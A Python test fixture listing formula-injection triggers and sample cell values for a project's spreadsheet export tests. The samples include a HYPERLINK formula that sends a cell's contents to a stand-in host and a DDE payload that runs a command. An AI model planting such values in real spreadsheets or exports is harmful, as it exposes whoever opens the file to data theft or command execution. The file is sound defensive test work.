"""Text that a spreadsheet would run as a formula, shared by the export tests.

The triggers are written out here, not imported from `sendportal.exports`, so
a rule that forgets one fails the tests.
"""

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")

FORMULA_TEXT = [
    '=HYPERLINK("http://x?"&A1)',
    "==1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    "'already quoted",
    "plain words",
]
